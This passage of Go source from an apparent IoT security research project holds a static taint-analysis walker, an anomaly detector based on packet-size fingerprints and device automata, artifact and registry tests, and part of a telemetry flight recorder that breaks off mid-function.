// run iterates the dataflow to a fixed point, then makes one recording
// pass that checks sinks against the converged state.
func (w *taintWalker) run(fd *ast.FuncDecl) {
	for i := 0; i < 8; i++ {
		w.changed = false
		w.pass(fd)
		if !w.changed {
			break
		}
	}
	w.recording = true
	w.pass(fd)
}

// pass walks the body once, in source order.
func (w *taintWalker) pass(fd *ast.FuncDecl) {
	ast.Inspect(fd.Body, func(n ast.Node) bool {
		switch n := n.(type) {
		case *ast.AssignStmt:
			w.assignStmt(n)
		case *ast.GenDecl:
			for _, spec := range n.Specs {
				vs, ok := spec.(*ast.ValueSpec)
				if !ok {
					continue
				}
				if len(vs.Values) == 1 && len(vs.Names) > 1 {
					v := w.val(vs.Values[0])
					for _, name := range vs.Names {
						w.taint(w.identKey(name), v)
					}
				} else {
					for i, name := range vs.Names {
						if i < len(vs.Values) {
							w.taint(w.identKey(name), w.val(vs.Values[i]))
						}
					}
				}
			}
		case *ast.RangeStmt:
			v := w.val(n.X)
			for _, e := range []ast.Expr{n.Key, n.Value} {
				if id, ok := e.(*ast.Ident); ok && id.Name != "_" {
					w.taint(w.identKey(id), v)
				}
			}
		case *ast.ReturnStmt:
			if len(n.Results) == 0 {
				// Naked return: named results carry whatever they hold.
				if fd.Type.Results != nil {
					for _, f := range fd.Type.Results.List {
						for _, name := range f.Names {
							w.returns |= w.state[w.identKey(name)]
						}
					}
				}
				return true
			}
			for _, r := range n.Results {
				w.returns |= w.val(r)
			}
		case *ast.SendStmt:
			if v := w.val(n.Value); v != 0 {
				w.taintRoot(n.Chan, v)
			}
		case *ast.CallExpr:
			// Evaluate every call so statement-position sinks are checked;
			// val dedups reports by position.
			w.val(n)
		}
		return true
	})
}

func (w *taintWalker) assignStmt(n *ast.AssignStmt) {
	if len(n.Rhs) == 1 && len(n.Lhs) > 1 {
		// Multi-value: every target inherits the call's taint.
		v := w.val(n.Rhs[0])
		for _, lhs := range n.Lhs {
			w.assignTo(lhs, v)
		}
		return
	}
	// Taint only ever accumulates (assignTo unions), so compound
	// assignments (+=) need no special case.
	for i, lhs := range n.Lhs {
		if i < len(n.Rhs) {
			w.assignTo(lhs, w.val(n.Rhs[i]))
		}
	}
}

// assignTo writes taint into an assignment target: identifiers are
// tainted directly; writes through selectors/indexes/derefs taint the
// root object (pkt.Payload = v taints pkt).
func (w *taintWalker) assignTo(lhs ast.Expr, v taintVal) {
	if v == 0 {
		return
	}
	if id, ok := lhs.(*ast.Ident); ok {
		if id.Name != "_" {
			w.taint(w.identKey(id), v)
		}
		return
	}
	w.taintRoot(lhs, v)
}

// taintRoot taints the root identifier of a selector/index/deref chain.
func (w *taintWalker) taintRoot(e ast.Expr, v taintVal) {
	for {
		switch x := e.(type) {
		case *ast.SelectorExpr:
			e = x.X
		case *ast.IndexExpr:
			e = x.X
		case *ast.SliceExpr:
			e = x.X
		case *ast.StarExpr:
			e = x.X
		case *ast.ParenExpr:
			e = x.X
		case *ast.UnaryExpr:
			e = x.X
		case *ast.Ident:
			if x.Name != "_" {
				w.taint(w.identKey(x), v)
			}
			return
		default:
			return
		}
	}
}

func (w *taintWalker) taint(key any, v taintVal) {
	if key == nil || v == 0 {
		return
	}
	if w.state[key]&v != v {
		w.state[key] |= v
		w.changed = true
	}
}

func (w *taintWalker) identKey(id *ast.Ident) any { return identObj(w.pt, id) }

// val computes the taint of an expression, reporting sink hits when
// recording.
func (w *taintWalker) val(e ast.Expr) taintVal {
	switch e := e.(type) {
	case *ast.Ident:
		return w.state[w.identKey(e)]
	case *ast.BasicLit, *ast.FuncLit:
		return 0
	case *ast.ParenExpr:
		return w.val(e.X)
	case *ast.UnaryExpr:
		return w.val(e.X)
	case *ast.StarExpr:
		return w.val(e.X)
	case *ast.TypeAssertExpr:
		return w.val(e.X)
	case *ast.IndexExpr:
		return w.val(e.X)
	case *ast.SliceExpr:
		return w.val(e.X)
	case *ast.SelectorExpr:
		// Field read of a tainted value, or a package-qualified name
		// (package identifiers are never tainted).
		return w.val(e.X)
	case *ast.BinaryExpr:
		switch e.Op {
		case token.LAND, token.LOR, token.EQL, token.NEQ,
			token.LSS, token.LEQ, token.GTR, token.GEQ:
			return 0 // booleans don't carry payload bytes
		}
		return w.val(e.X) | w.val(e.Y)
	case *ast.CompositeLit:
		var v taintVal
		for _, elt := range e.Elts {
			if kv, ok := elt.(*ast.KeyValueExpr); ok {
				v |= w.val(kv.Value)
			} else {
				v |= w.val(elt)
			}
		}
		return v
	case *ast.CallExpr:
		return w.call(e)
	}
	return 0
}

// call classifies and evaluates one call expression.
func (w *taintWalker) call(call *ast.CallExpr) taintVal {
	// Type conversions keep their operand's taint.
	if w.pt != nil {
		if tv, ok := w.pt.info.Types[call.Fun]; ok && tv.IsType() {
			var v taintVal
			for _, a := range call.Args {
				v |= w.val(a)
			}
			return v
		}
	}
	if name, ok := builtinName(w, call.Fun); ok {
		switch name {
		case "append", "min", "max":
			var v taintVal
			for _, a := range call.Args {
				v |= w.val(a)
			}
			return v
		case "copy":
			// copy(dst, src): a tainted source taints the destination.
			if len(call.Args) == 2 {
				if v := w.val(call.Args[1]); v != 0 {
					w.taintRoot(call.Args[0], v)
				}
			}
			return 0
		default:
			return 0 // len, cap, make, new, delete, panic, ...
		}
	}

	c, recvExpr := w.resolve(call)

	// Assemble argument taints; a method receiver is argument 0.
	var argExprs []ast.Expr
	if recvExpr != nil {
		argExprs = append(argExprs, recvExpr)
	}
	argExprs = append(argExprs, call.Args...)
	argVals := make([]taintVal, len(argExprs))
	var union taintVal
	for i, a := range argExprs {
		argVals[i] = w.val(a)
		union |= argVals[i]
	}

	switch {
	case w.t.sanitizers.match(c, w.pkg.ImportPath, w.imports):
		return 0
	case w.t.sources.match(c, w.pkg.ImportPath, w.imports):
		return taintSource
	case w.t.sinks.match(c, w.pkg.ImportPath, w.imports):
		for _, v := range argVals {
			if v != 0 {
				w.hitSinkArg(call, c.String(), "", v)
			}
		}
		return 0
	}

	if s, tf := w.t.lookupSummary(c); s != nil {
		var out taintVal
		if s.introduces {
			out |= taintSource
		}
		for i, v := range argVals {
			if v == 0 {
				continue
			}
			j := i
			if j >= len(s.propagates) && len(s.propagates) > 0 {
				j = len(s.propagates) - 1 // variadic tail
			}
			if j < len(s.propagates) && s.propagates[j] {
				out |= v
			}
			if j < len(s.sinks) && s.sinks[j] != "" {
				w.hitSinkArg(call, s.sinks[j], tf.ref.String(), v)
			}
		}
		return out
	}

	// Unknown callee: conservatively propagate argument taint to the
	// result, and through mutation into pointer arguments and the
	// receiver (h.Write(key) taints h).
	if union != 0 {
		if recvExpr != nil {
			w.taintRoot(recvExpr, union)
		}
		for _, a := range call.Args {
			if u, ok := a.(*ast.UnaryExpr); ok && u.Op == token.AND {
				w.taintRoot(u.X, union)
			}
		}
	}
	return union
}

// hitSinkArg reports (or records, in summary mode) one tainted value
// reaching a sink.
func (w *taintWalker) hitSinkArg(call *ast.CallExpr, sink, via string, v taintVal) {
	if w.summaryMode {
		for i := 0; i < maxParamBits; i++ {
			if v&paramBit(i) != 0 {
				if _, dup := w.sinkHits[i]; !dup {
					w.sinkHits[i] = sink
				}
			}
		}
		return
	}
	if !w.recording || v&taintSource == 0 || w.findings == nil {
		return
	}
	pos := call.Pos()
	if w.reported[pos] {
		return
	}
	line := w.pkg.Fset.Position(pos).Line
	if w.allowed[line] {
		return
	}
	w.reported[pos] = true
	rule := w.t.Rule
	msg := fmt.Sprintf("%s reaches sink %s", rule.Tainted, sink)
	if via != "" {
		msg += fmt.Sprintf(" via %s", via)
	}
	msg += fmt.Sprintf("; %s (or annotate //%s)", rule.Advice, AllowTaintMarker)
	*w.findings = append(*w.findings, w.pkg.finding(rule.RuleName, pos, "%s", msg))
}

// callee identifies a call target as precisely as the available type
// information allows. recv == "?" marks a method whose receiver type
// could not be resolved.
type callee struct {
	pkg, recv, name string
}

func (c callee) String() string {
	return TaintRef{Pkg: c.pkg, Recv: c.recv, Name: c.name}.String()
}

// builtinName reports whether fun denotes a Go builtin.
func builtinName(w *taintWalker, fun ast.Expr) (string, bool) {
	id, ok := fun.(*ast.Ident)
	if !ok {
		return "", false
	}
	if w.pt != nil {
		if obj := w.pt.info.Uses[id]; obj != nil {
			_, isBuiltin := obj.(*types.Builtin)
			return id.Name, isBuiltin
		}
	}
	switch id.Name {
	case "len", "cap", "append", "copy", "make", "new", "delete",
		"clear", "min", "max", "panic", "print", "println", "recover":
		return id.Name, true
	}
	return "", false
}

// resolve identifies the callee and, for method calls, returns the
// receiver expression (so its taint participates as argument 0).
func (w *taintWalker) resolve(call *ast.CallExpr) (callee, ast.Expr) {
	return resolveCall(w.pt, w.imports, w.pkg.ImportPath, call)
}

// resolveCall identifies a call's callee using the type oracle with
// syntactic import-name fallbacks, shared by the taint and cryptomisuse
// engines. For method calls the receiver expression is returned too.
func resolveCall(pt *pkgTypes, imports map[string]string, selfPkg string, call *ast.CallExpr) (callee, ast.Expr) {
	switch fun := call.Fun.(type) {
	case *ast.Ident:
		if pt != nil {
			if fn, ok := pt.info.Uses[fun].(*types.Func); ok && fn.Pkg() != nil {
				return callee{pkg: fn.Pkg().Path(), name: fun.Name}, nil
			}
		}
		// Unresolved plain call: assume same-package.
		return callee{pkg: selfPkg, name: fun.Name}, nil
	case *ast.SelectorExpr:
		if pt != nil {
			if sel, ok := pt.info.Selections[fun]; ok && sel.Kind() == types.MethodVal {
				obj := sel.Obj()
				pkgPath := ""
				if obj.Pkg() != nil {
					pkgPath = obj.Pkg().Path()
				}
				return callee{pkg: pkgPath, recv: namedOf(sel.Recv()), name: fun.Sel.Name}, fun.X
			}
			if id, ok := fun.X.(*ast.Ident); ok {
				if pn, ok := pt.info.Uses[id].(*types.PkgName); ok {
					return callee{pkg: pn.Imported().Path(), name: fun.Sel.Name}, nil
				}
			}
		}
		if id, ok := fun.X.(*ast.Ident); ok {
			if path, ok := imports[id.Name]; ok && !isLocalIdent(pt, id) {
				return callee{pkg: path, name: fun.Sel.Name}, nil
			}
		}
		return callee{recv: "?", name: fun.Sel.Name}, fun.X
	case *ast.ParenExpr:
		inner := *call
		inner.Fun = fun.X
		return resolveCall(pt, imports, selfPkg, &inner)
	}
	return callee{}, nil
}

// isLocalIdent reports whether id resolves to a local object (shadowing
// an import name).
func isLocalIdent(pt *pkgTypes, id *ast.Ident) bool {
	if pt == nil {
		return false
	}
	obj := pt.info.Uses[id]
	if obj == nil {
		return false
	}
	_, isPkg := obj.(*types.PkgName)
	return !isPkg
}

// lookupSummary finds the summary for a resolved callee, handling the
// unknown-receiver fallback (unique method name among imported
// packages).
func (t *Taint) lookupSummary(c callee) (*taintSummary, *taintFunc) {
	if c.recv != "?" {
		key := funcKey(c.pkg, c.recv, c.name)
		if s, ok := t.summaries[key]; ok {
			return s, t.funcs[key]
		}
		return nil, nil
	}
	var found string
	for _, key := range t.methodsByName[c.name] {
		if found != "" && found != key {
			return nil, nil // ambiguous: stay conservative
		}
		found = key
	}
	if found == "" {
		return nil, nil
	}
	if s, ok := t.summaries[found]; ok {
		return s, t.funcs[found]
	}
	return nil, nil
}

// refMatcher matches resolved callees against a TaintRef table.
type refMatcher struct {
	funcs   map[[2]string]bool
	methods map[[3]string]bool
	// methodPkgs maps a method name to the packages declaring a matching
	// spec, for the unknown-receiver fallback.
	methodPkgs map[string][]string
}

func newRefMatcher(refs []TaintRef) *refMatcher {
	m := &refMatcher{
		funcs:      make(map[[2]string]bool),
		methods:    make(map[[3]string]bool),
		methodPkgs: make(map[string][]string),
	}
	for _, r := range refs {
		if r.Recv == "" {
			m.funcs[[2]string{r.Pkg, r.Name}] = true
		} else {
			m.methods[[3]string{r.Pkg, r.Recv, r.Name}] = true
			m.methodPkgs[r.Name] = append(m.methodPkgs[r.Name], r.Pkg)
		}
	}
	return m
}

// match reports whether the callee hits a table entry. Unresolved
// receivers match by method name when the calling file imports (or is)
// the declaring package — a deliberate over-approximation, waivable
// with the calling rule's marker.
func (m *refMatcher) match(c callee, selfPkg string, imports map[string]string) bool {
	if c.recv == "" {
		return m.funcs[[2]string{c.pkg, c.name}]
	}
	if c.recv != "?" {
		return m.methods[[3]string{c.pkg, c.recv, c.name}]
	}
	for _, pkg := range m.methodPkgs[c.name] {
		if pkg == selfPkg {
			return true
		}
		for _, imported := range imports {
			if imported == pkg {
				return true
			}
		}
	}
	return false
}

var _ ModuleAnalyzer = (*Taint)(nil)
