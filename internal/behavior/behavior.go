// Package behavior implements XLF's device-behaviour profiling (§IV-B3 and
// §IV-C2), modeled on HoMonit (Zhang et al., CCS 2018): events are
// fingerprinted as packet-size sequences and matched with Levenshtein
// distance; a deterministic finite automaton of normal operation (derived
// from the automation apps, or learned from traces for devices without
// apps) flags state-transition deviations such as spoofed events and
// misbehaving applications.
package behavior

import (
	"fmt"
	"math"
	"sort"

	"xlf/internal/device"
)

// Levenshtein computes the edit distance between two integer sequences
// (quantized packet sizes). It is the similarity measure HoMonit uses for
// wireless event fingerprints.
func Levenshtein(a, b []int) int {
	if len(a) == 0 {
		return len(b)
	}
	if len(b) == 0 {
		return len(a)
	}
	prev := make([]int, len(b)+1)
	cur := make([]int, len(b)+1)
	for j := range prev {
		prev[j] = j
	}
	for i := 1; i <= len(a); i++ {
		cur[0] = i
		for j := 1; j <= len(b); j++ {
			cost := 1
			if a[i-1] == b[j-1] {
				cost = 0
			}
			cur[j] = min3(prev[j]+1, cur[j-1]+1, prev[j-1]+cost)
		}
		prev, cur = cur, prev
	}
	return prev[len(b)]
}

func min3(a, b, c int) int {
	if b < a {
		a = b
	}
	if c < a {
		a = c
	}
	return a
}

// Quantize buckets a packet size to blur MTU-level jitter; HoMonit
// clusters similar sequences, and bucketing plays that role
// deterministically.
func Quantize(size int) int { return (size + 31) / 32 }

// Fingerprint is a labelled packet-size sequence for one device event.
type Fingerprint struct {
	Event string
	Seq   []int // quantized sizes in order
}

// Library holds the fingerprint clusters per event and classifies observed
// sequences by nearest-neighbour Levenshtein.
type Library struct {
	prints []Fingerprint
	// MaxDistance rejects classifications farther than this distance
	// (normalised by sequence length when Relative is set).
	MaxDistance int
	// Relative, when true, treats MaxDistance as a percentage (0-100) of
	// the candidate sequence length.
	Relative bool
}

// NewLibrary builds a library from training fingerprints.
func NewLibrary(prints []Fingerprint, maxDistance int, relative bool) (*Library, error) {
	if len(prints) == 0 {
		return nil, fmt.Errorf("behavior: empty fingerprint library")
	}
	for i, p := range prints {
		if p.Event == "" || len(p.Seq) == 0 {
			return nil, fmt.Errorf("behavior: fingerprint %d is incomplete", i)
		}
	}
	lib := &Library{MaxDistance: maxDistance, Relative: relative}
	for _, p := range prints {
		lib.prints = append(lib.prints, Fingerprint{Event: p.Event, Seq: append([]int(nil), p.Seq...)})
	}
	return lib, nil
}

// Classify returns the best-matching event for an observed quantized
// sequence, with its distance. ok=false when nothing is close enough.
func (l *Library) Classify(seq []int) (event string, distance int, ok bool) {
	best := math.MaxInt
	for _, p := range l.prints {
		d := Levenshtein(seq, p.Seq)
		if d < best {
			best = d
			event = p.Event
		}
	}
	limit := l.MaxDistance
	if l.Relative {
		limit = l.MaxDistance * max(1, len(seq)) / 100
	}
	if best > limit {
		return "", best, false
	}
	return event, best, true
}

func max(a, b int) int {
	if a > b {
		return a
	}
	return b
}

// Deviation is one flagged observation.
type Deviation struct {
	DeviceID string
	Event    string
	// Kind classifies the anomaly: "illegal-transition" (event not legal
	// in the tracked state), "unknown-event" (no fingerprint match), or
	// "unseen-transition" (learned model only).
	Kind  string
	State device.State
	// Score in (0,1]; higher is more anomalous.
	Score float64
}

// Monitor tracks one device's state against its ground-truth automaton
// (from the automation apps / device model) and scores deviations.
type Monitor struct {
	deviceID string
	dfa      *device.Behavior
	state    device.State

	observed   int
	deviations []Deviation
}

// NewMonitor starts tracking a device from its automaton's initial state.
func NewMonitor(deviceID string, dfa *device.Behavior) (*Monitor, error) {
	if dfa == nil {
		return nil, fmt.Errorf("behavior: nil automaton for %s", deviceID)
	}
	return &Monitor{deviceID: deviceID, dfa: dfa, state: dfa.Initial}, nil
}

// State returns the monitor's tracked state.
func (m *Monitor) State() device.State { return m.state }

// Observe feeds one recovered event. Legal transitions advance the tracked
// state; illegal ones are recorded as deviations without advancing (the
// device itself would have rejected them).
func (m *Monitor) Observe(event string) *Deviation {
	m.observed++
	next, ok := m.dfa.Next(m.state, event)
	if !ok {
		d := Deviation{
			DeviceID: m.deviceID, Event: event, Kind: "illegal-transition",
			State: m.state, Score: 1.0,
		}
		m.deviations = append(m.deviations, d)
		return &d
	}
	m.state = next
	return nil
}

// ObserveUnknown records a sequence that matched no fingerprint.
func (m *Monitor) ObserveUnknown(distance int) *Deviation {
	m.observed++
	score := 1 - 1/float64(distance+1)
	d := Deviation{DeviceID: m.deviceID, Kind: "unknown-event", State: m.state, Score: score}
	m.deviations = append(m.deviations, d)
	return &d
}

// Stats returns (observations, deviations).
func (m *Monitor) Stats() (int, int) { return m.observed, len(m.deviations) }

// Deviations returns recorded deviations (a copy).
func (m *Monitor) Deviations() []Deviation {
	return append([]Deviation(nil), m.deviations...)
}

// LearnedModel is the fallback for devices without automation-derived
// automata (the paper's Amazon Echo point): a first-order transition model
// learned from benign traces. Transitions never seen in training are
// flagged.
type LearnedModel struct {
	counts map[string]map[string]int
	starts map[string]int
	total  int
}

// Learn builds a model from benign event traces. Traces are sessions that
// repeat in deployment, so the model also admits every boundary transition
// (any trace's last event -> any trace's first event): without the cycle
// closure, the second benign session of a day would be flagged at its
// first event.
func Learn(traces [][]string) *LearnedModel {
	m := &LearnedModel{
		counts: make(map[string]map[string]int),
		starts: make(map[string]int),
	}
	add := func(prev, cur string) {
		mm := m.counts[prev]
		if mm == nil {
			mm = make(map[string]int)
			m.counts[prev] = mm
		}
		mm[cur]++
		m.total++
	}
	var firsts, lasts []string
	for _, tr := range traces {
		if len(tr) == 0 {
			continue
		}
		m.starts[tr[0]]++
		firsts = append(firsts, tr[0])
		lasts = append(lasts, tr[len(tr)-1])
		for i := 1; i < len(tr); i++ {
			add(tr[i-1], tr[i])
		}
	}
	for _, l := range lasts {
		for _, f := range firsts {
			add(l, f)
		}
	}
	return m
}

// Seen reports whether the transition prev->cur occurred in training.
func (m *LearnedModel) Seen(prev, cur string) bool {
	return m.counts[prev][cur] > 0
}

// Surprise scores a trace: the fraction of its transitions unseen in
// training (0 = fully normal, 1 = fully novel).
func (m *LearnedModel) Surprise(trace []string) float64 {
	if len(trace) < 2 {
		return 0
	}
	unseen := 0
	for i := 1; i < len(trace); i++ {
		if !m.Seen(trace[i-1], trace[i]) {
			unseen++
		}
	}
	return float64(unseen) / float64(len(trace)-1)
}

// Alphabet returns the sorted event vocabulary of the model.
func (m *LearnedModel) Alphabet() []string {
	set := make(map[string]struct{})
	for a, mm := range m.counts {
		set[a] = struct{}{}
		for b := range mm {
			set[b] = struct{}{}
		}
	}
	for s := range m.starts {
		set[s] = struct{}{}
	}
	out := make([]string, 0, len(set))
	for s := range set {
		out = append(out, s)
	}
	sort.Strings(out)
	return out
}
