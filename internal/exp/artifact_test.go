package exp

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func sampleResult(id string) *Result {
	r := &Result{ID: id, Title: "sample " + id, Output: "table for " + id + "\n"}
	r.num("metric_a", 1.5)
	r.num("metric_b", 0)
	r.Telemetry = &Telemetry{WallNS: 1234567, AllocBytes: 4096, Allocs: 17}
	return r
}

func sampleMeta() RunMeta { return RunMeta{Seed: 1, Parallel: 4, Clock: ClockStep} }

// TestArtifactRoundTrip writes artifacts for a result set and reads them
// back bit-equal through the public API.
func TestArtifactRoundTrip(t *testing.T) {
	dir := t.TempDir()
	results := []*Result{sampleResult("E1"), sampleResult("T3")}
	paths, err := WriteArtifacts(dir, results, sampleMeta())
	if err != nil {
		t.Fatal(err)
	}
	if len(paths) != 2 {
		t.Fatalf("wrote %d paths, want 2", len(paths))
	}
	if want := ArtifactPath(dir, "E1"); paths[0] != want {
		t.Errorf("path = %q, want %q", paths[0], want)
	}
	if filepath.Base(paths[1]) != "BENCH_T3.json" {
		t.Errorf("artifact name = %q, want BENCH_T3.json", filepath.Base(paths[1]))
	}

	byID, ids, err := ReadArtifactDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(ids) != 2 || ids[0] != "E1" || ids[1] != "T3" {
		t.Fatalf("ids = %v", ids)
	}
	a := byID["E1"]
	if a.Schema != ArtifactSchema || a.Seed != 1 || a.Parallel != 4 || a.Clock != ClockStep {
		t.Errorf("metadata lost: %+v", a)
	}
	if a.Numbers["metric_a"] != 1.5 {
		t.Errorf("numbers lost: %v", a.Numbers)
	}
	if a.Telemetry == nil || a.Telemetry.WallNS != 1234567 {
		t.Errorf("telemetry lost: %+v", a.Telemetry)
	}
	// The hash commits to the rendered section, so two identical runs
	// produce identical artifacts modulo telemetry.
	b := NewArtifact(sampleResult("E1"), sampleMeta())
	if a.OutputSHA256 != b.OutputSHA256 || a.OutputBytes != b.OutputBytes {
		t.Errorf("hash not reproducible: %s vs %s", a.OutputSHA256, b.OutputSHA256)
	}
}

// TestArtifactSchemaFields pins the documented v1 JSON schema: key names
// are the wire contract bench-compare and external tooling parse.
func TestArtifactSchemaFields(t *testing.T) {
	buf, err := json.Marshal(NewArtifact(sampleResult("E2"), sampleMeta()))
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(buf, &m); err != nil {
		t.Fatal(err)
	}
	for _, key := range []string{"schema", "id", "title", "seed", "parallel", "clock", "numbers", "output_sha256", "output_bytes", "telemetry"} {
		if _, ok := m[key]; !ok {
			t.Errorf("schema missing key %q in %s", key, buf)
		}
	}
	if m["schema"] != "xlf-bench/v1" {
		t.Errorf("schema tag = %v", m["schema"])
	}
	tel, ok := m["telemetry"].(map[string]any)
	if !ok {
		t.Fatalf("telemetry not an object: %v", m["telemetry"])
	}
	for _, key := range []string{"wall_ns", "alloc_bytes", "allocs"} {
		if _, ok := tel[key]; !ok {
			t.Errorf("telemetry missing key %q", key)
		}
	}
}

// TestArtifactValidate covers the rejection paths for corrupt artifacts.
func TestArtifactValidate(t *testing.T) {
	good := func() *Artifact { return NewArtifact(sampleResult("E1"), sampleMeta()) }
	cases := []struct {
		name  string
		mut   func(*Artifact)
		wants string
	}{
		{"wrong schema", func(a *Artifact) { a.Schema = "xlf-bench/v0" }, "schema"},
		{"missing id", func(a *Artifact) { a.ID = "" }, "missing id"},
		{"bad hash", func(a *Artifact) { a.OutputSHA256 = "abc" }, "sha256"},
		{"bad clock", func(a *Artifact) { a.Clock = "sundial" }, "clock"},
		{"bad parallel", func(a *Artifact) { a.Parallel = 0 }, "parallel"},
		{"negative wall", func(a *Artifact) { a.Telemetry.WallNS = -5 }, "wall_ns"},
	}
	if err := good().Validate(); err != nil {
		t.Fatalf("valid artifact rejected: %v", err)
	}
	for _, tc := range cases {
		a := good()
		tc.mut(a)
		err := a.Validate()
		if err == nil || !strings.Contains(err.Error(), tc.wants) {
			t.Errorf("%s: err = %v, want mention of %q", tc.name, err, tc.wants)
		}
	}
}

// TestReadArtifactDirRejects covers the loader's failure modes: invalid
// JSON, schema violations, and duplicate experiment IDs.
func TestReadArtifactDirRejects(t *testing.T) {
	dir := t.TempDir()
	if _, err := WriteArtifacts(dir, []*Result{sampleResult("E1")}, sampleMeta()); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "BENCH_E9.json"), []byte("{not json"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, _, err := ReadArtifactDir(dir); err == nil {
		t.Error("corrupt JSON accepted")
	}
	if err := os.Remove(filepath.Join(dir, "BENCH_E9.json")); err != nil {
		t.Fatal(err)
	}

	// A second file claiming the same ID under a different name.
	src, err := os.ReadFile(ArtifactPath(dir, "E1"))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "BENCH_COPY.json"), src, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, _, err := ReadArtifactDir(dir); err == nil || !strings.Contains(err.Error(), "duplicate") {
		t.Errorf("duplicate IDs accepted: %v", err)
	}

	if _, err := ReadArtifact(filepath.Join(dir, "BENCH_NONE.json")); err == nil {
		t.Error("missing file accepted")
	}
}
