package exp

import "testing"

// TestRegistryShape pins the registry as the single source of truth: one
// entry per report section, report order, resolvable by ID, table and
// figure number.
func TestRegistryShape(t *testing.T) {
	want := []string{"T1", "T2", "T3", "F1", "F2", "F3", "F4", "E1", "E2", "E3", "E4", "E5", "E6", "E7", "E8", "E9", "E10"}
	reg := Registry()
	if len(reg) != len(want) {
		t.Fatalf("registry has %d entries, want %d", len(reg), len(want))
	}
	for i, id := range want {
		e := reg[i]
		if e.ID != id {
			t.Errorf("entry %d is %s, want %s", i, e.ID, id)
		}
		if e.Title == "" || e.Run == nil {
			t.Errorf("%s: incomplete descriptor %+v", id, e)
		}
		got, ok := Lookup(id)
		if !ok || got.ID != id {
			t.Errorf("Lookup(%q) failed", id)
		}
	}
	for n := 1; n <= 3; n++ {
		if e, ok := ByTable(n); !ok || e.Kind() != "table" {
			t.Errorf("ByTable(%d) failed", n)
		}
	}
	for n := 1; n <= 4; n++ {
		if e, ok := ByFigure(n); !ok || e.Kind() != "figure" {
			t.Errorf("ByFigure(%d) failed", n)
		}
	}
	if _, ok := ByTable(9); ok {
		t.Error("ByTable(9) resolved")
	}
	if _, ok := ByFigure(9); ok {
		t.Error("ByFigure(9) resolved")
	}
	if _, ok := Lookup("E99"); ok {
		t.Error("Lookup(E99) resolved")
	}
	if e, ok := Lookup(" e4 "); !ok || e.ID != "E4" {
		t.Error("Lookup should be case- and space-insensitive")
	}
	if k := mustLookup(t, "E4").Kind(); k != "experiment" {
		t.Errorf("E4 kind = %q", k)
	}
}

func mustLookup(t *testing.T, id string) Experiment {
	t.Helper()
	e, ok := Lookup(id)
	if !ok {
		t.Fatalf("registry lost %s", id)
	}
	return e
}

// TestRegistryRunsDeterministic replaces the deprecated-wrapper pin (the
// twin functions are gone after their one-release window): a registry
// entry must render the same bytes for two identical envs.
func TestRegistryRunsDeterministic(t *testing.T) {
	for _, id := range []string{"T3", "E4", "E5"} {
		id := id
		t.Run(id, func(t *testing.T) {
			first := mustLookup(t, id).Run(NewStepEnv(4)).String()
			again := mustLookup(t, id).Run(NewStepEnv(4)).String()
			if first != again {
				t.Errorf("%s: two runs with the same env disagree", id)
			}
		})
	}
}

// TestResultIDsMatchRegistry asserts every entry renders a Result carrying
// its own ID and title, which the artifact layer keys on.
func TestResultIDsMatchRegistry(t *testing.T) {
	if testing.Short() {
		t.Skip("full registry sweep in -short mode")
	}
	for _, e := range Registry() {
		r := e.Run(NewStepEnv(1))
		if r.ID != e.ID {
			t.Errorf("%s rendered result ID %q", e.ID, r.ID)
		}
		if r.Title != e.Title {
			t.Errorf("%s rendered title %q, registry says %q", e.ID, r.Title, e.Title)
		}
	}
}
