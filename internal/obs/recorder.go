package obs

import (
	"sync"
	"time"
)

// Trigger identifies why the flight recorder dumped its ring.
type Trigger uint8

// The trigger classes the telemetry pipeline fires on. They stay a small
// dense enum so the recorder's hot path can pend them in a fixed array —
// no map, no allocation.
const (
	// TriggerAlert fires when the Core raises an alert (or a harness
	// detector flags an attacker).
	TriggerAlert Trigger = iota
	// TriggerDropSpike fires when a rollup window sees the network drop
	// counter move.
	TriggerDropSpike
	// TriggerSLOBreach fires when a detection latency exceeds the
	// configured SLO.
	TriggerSLOBreach

	numTriggers
)

// String names the trigger for dump rendering.
func (tr Trigger) String() string {
	switch tr {
	case TriggerAlert:
		return "alert"
	case TriggerDropSpike:
		return "drop-spike"
	case TriggerSLOBreach:
		return "slo-breach"
	default:
		return "unknown"
	}
}

// DefaultRecorderSpans is the span ring size used when a FlightRecorder
// is built with capacity <= 0 — deep enough to cover the events leading
// into an alert, ~250x smaller than a full trace ring.
const DefaultRecorderSpans = 256

// DefaultRecorderDumps bounds how many dumps a recorder retains when
// built with maxDumps <= 0.
const DefaultRecorderDumps = 16

// Dump is one flight-recorder excerpt: the spans that preceded a trigger,
// plus which triggers fired in the window that produced it. Field order
// is the xlf-metrics/v1 wire order.
type Dump struct {
	// Src names the producing harness (stamped at collection, like
	// WindowRecord.Src).
	Src string `json:"src,omitempty"`
	// Time is the sim-clock instant the dump was cut (the Flush time).
	Time time.Duration `json:"t_ns"`
	// Reasons lists the distinct triggers that fired since the previous
	// flush, in fixed enum order (deterministic — never map order).
	Reasons []string `json:"reasons"`
	// Suppressed counts trigger fires beyond the first per class since
	// the previous flush: the debounce makes repeated alerts in one
	// window cost one dump.
	Suppressed uint64 `json:"suppressed,omitempty"`
	// Spans is the ring content at flush time, oldest first.
	Spans []Span `json:"spans"`
}

// FlightRecorder keeps a fixed-size ring of the most recent spans and
// cuts a Dump only when a trigger fired — post-mortem context at a tiny
// fraction of full-trace cost. Record and Trigger are hot-path safe
// (fixed ring, fixed pending array, zero allocation); Flush is the cold
// path that materialises a dump, called once per rollup window so
// triggers are debounced to at most one dump per window. A nil
// *FlightRecorder disables everything, mirroring the nil Tracer.
type FlightRecorder struct {
	mu   sync.Mutex
	buf  []Span
	head int // next write slot
	n    int // occupied slots

	pending [numTriggers]uint64 // fires since last flush, per class

	dumps        []Dump
	maxDumps     int
	triggered    uint64 // total trigger fires over the recorder's life
	droppedDumps uint64 // dumps discarded because maxDumps was reached
}

// NewFlightRecorder builds a recorder with the given span-ring capacity
// (DefaultRecorderSpans when <= 0) and retained-dump bound
// (DefaultRecorderDumps when <= 0).
//
//xlf:owned(obs)
func NewFlightRecorder(capacity, maxDumps int) *FlightRecorder {
	if capacity <= 0 {
		capacity = DefaultRecorderSpans
	}
	if maxDumps <= 0 {
		maxDumps = DefaultRecorderDumps
	}
